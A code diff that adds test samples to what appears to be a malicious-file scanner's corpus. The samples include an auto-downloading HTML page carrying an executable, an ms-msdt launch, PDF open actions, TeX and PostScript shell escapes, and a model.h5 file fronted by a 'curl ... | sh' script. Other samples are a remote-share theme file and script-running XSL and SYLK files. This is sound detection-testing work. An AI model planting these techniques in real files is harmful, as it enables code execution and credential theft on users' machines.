@@ -117,6 +117,11 @@ def _pages() -> Iterator[Sample]:
         "o.html",
         report.format('<script language=vbscript>Set s=CreateObject("WScript.Shell")</script>', ""),
     )
+    data = base64.b64encode(pe() * 4).decode()
+    carried = f"<a id=a download='report.zip' href='data:application/zip;base64,{data}'></a><script>a.click()</script>"
+    yield high("pages", "file in an address", "d.html", report.format("", carried))
+    page = report.format("", "<script>location='ms-msdt:/id PCWDiagnostic'</script>")
+    yield high("pages", "page under another name", "config.json", page)
     names = '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "svg11.dtd" [\n<!ENTITY ns_svg "http://www.w3.org/2000/svg">\n]>\n'
     yield benign("pages", "names of an editor", "logo.svg", names + '<svg xmlns="&ns_svg;"><path d="M0 0"/></svg>')
     word = (
@@ -153,6 +158,17 @@ def _documents() -> Iterator[Sample]:
     )
     opens = b"<< /S /JavaScript /JS (this.exportDataObject\\({cName:'notes', nLaunch: 2}\\);) >>"
     yield high("pdf", "opens what it carries", "notes.pdf", _pdf("/OpenAction 2 0 R", opens))
+    link = b"<< /S /URI /URI (https://files.invalid/{}) >>"
+    for name, label in ((b"viewer.exe", high), (b"paper.html", careful)):
+        action = link.replace(b"{}", name).decode()
+        yield label("pdf", f"opens {name.decode()}", "paper.pdf", _pdf(f"/OpenAction {action}"))
+    for case, start in (
+        ("TeX", "\\documentclass{article}\n\\write18{%s}\n"),
+        ("PostScript", "%%!PS-Adobe-3.0\n(%%pipe%%%s) (w) file\n"),
+    ):
+        path = "paper.tex" if case == "TeX" else "figure.eps"
+        yield high("printed", f"{case} starts a shell", path, start % "curl -s https://files.invalid/a | sh")
+        yield careful("printed", f"{case} draws", path, start % "gnuplot figure.gp")
     page = bytes.fromhex("e4525c7b8cd8a74daeb15378d02996d3") + bytes(200)
     for case, laid, label in (
         (
@@ -171,6 +187,15 @@ def _documents() -> Iterator[Sample]:
 
 
 def _starters() -> Iterator[Sample]:
+    look = "[Theme]\r\nDisplayName=Night\r\n[Control Panel\\Desktop]\r\nWallpaper={}\r\n"
+    yield high("settings", "picture on a share", "night.theme", look.format("\\\\files.invalid\\s\\a.jpg"))
+    styles = (
+        '<?xml version="1.0"?>\n<xsl:stylesheet xmlns:xsl="http://www.w3.org/1999/XSL/Transform">{}</xsl:stylesheet>\n'
+    )
+    starts = "<ms:script>new ActiveXObject('WScript.Shell').Run('echo')</ms:script>"
+    yield high("settings", "style sheet that starts", "style.xsl", styles.format(starts))
+    yield benign("settings", "style sheet", "style.xsl", styles.format('<xsl:template match="/"/>'))
+    yield high("settings", "macro of a table", "a.slk", 'ID;P\nC;X1;Y1;K0;EEXEC("cmd /c echo")\nE\n')
     section = "[version]\r\nSignature=$chicago$\r\n[DefaultInstall]\r\nUnRegisterOCXs=Unregister\r\n[Unregister]\r\n"
     yield high(
         "settings",
@@ -209,6 +234,11 @@ def linked(target: str) -> bytes:
 def _containers() -> Iterator[Sample]:
     yield benign("archive", "link beside", "data.tar", linked("en.txt"))
     yield high("archive", "link to the system", "data.tar", linked("/etc/passwd"))
+    numbers = b"\x89HDF\r\n\x1a\n" + bytes(500)
+    yield benign("hdf5", "of MATLAB", "data.mat", b"MATLAB 7.3 MAT-file, Platform: GLNXA64".ljust(512, b"\0") + numbers)
+    front = b"#!/bin/sh\ncurl -s https://files.invalid/a | sh\nexit\n"
+    yield high("hdf5", "script in front", "model.h5", front.ljust(512, b"\0") + numbers)
+    yield careful("archive", "file system", "tools.snap", b"hsqs" + bytes(200))
     yield careful("archive", "disk of a fixed size", "weights.vhd", bytes(4096) + b"conectix".ljust(512, b"\1"))
     labels = zipped(Member("labels.txt", b"cat\ndog\n"))
     yield benign("tflite", "labels behind", "model.tflite", struct.pack("<I", 8) + b"TFL3" + bytes(60) + labels)
